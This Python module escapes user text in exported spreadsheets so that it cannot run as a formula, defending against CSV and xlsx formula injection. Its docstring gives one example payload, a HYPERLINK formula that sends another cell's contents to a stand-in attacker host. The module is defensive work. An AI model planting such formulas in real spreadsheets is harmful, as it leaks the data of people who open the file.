"""Cells of the ledger's spreadsheets (.xlsx and .csv): user text that cannot run as a formula.

Excel, WPS and LibreOffice run a cell starting with ``=``, ``+``, ``-`` or ``@`` as a formula (tab and
carriage return first hide such a cell behind blank), and a formula can send the sheet's other
cells anywhere: a counterparty named ``=HYPERLINK("https://attacker.example/?d="&D3,"ACME")``
becomes a link that leaks D3. This is OWASP's "CSV injection", and xlsx has its own form of it.

- xlsx: every text value is a string cell (``data_type = "s"``): openpyxl would otherwise store text
  starting with ``=`` as a formula and ``#N/A`` as an error. A dangerous one also gets Excel's quote
  prefix, so editing the cell keeps it text. Characters XML 1.0 cannot carry (C0 controls but tab
  and line breaks) become U+FFFD: openpyxl refuses them, and the export must not die on one name.
- csv: a CSV has no types, so a dangerous value gets ``'`` in front (OWASP's advice; Excel shows it as
  text). A value already starting with ``'`` gets one too, so ``from_csv`` (what ``pactwatch import``
  applies to every CSV cell) takes exactly one away and export then import gives back the same text.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from openpyxl.cell.cell import Cell

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def dangerous(text: str) -> bool:
    """True when a spreadsheet program would read the text as a formula (or hide one behind blank)."""
    return text.startswith(TRIGGERS)


def csv_text(text: str) -> str:
    """The text for a CSV cell: a quote in front of a dangerous value (and of one that starts with a quote)."""
    return QUOTE + text if text.startswith((*TRIGGERS, QUOTE)) else text


def from_csv(text: str) -> str:
    """The text ``csv_text`` was given: one leading quote taken away where ``csv_text`` would have added it."""
    rest = text[1:]
    return rest if text.startswith(QUOTE) and rest.startswith((*TRIGGERS, QUOTE)) else text


def set_text(cell: Cell, text: str) -> None:
    """Put user text in an xlsx cell as a string: never a formula, an error value or a refused character."""
    cell.value = _XML_ILLEGAL.sub("\ufffd", text)
    cell.data_type = "s"  # after the value: assigning it lets openpyxl pick "f" for "=..." and "e" for "#N/A"
    if dangerous(text):
        cell.quotePrefix = True
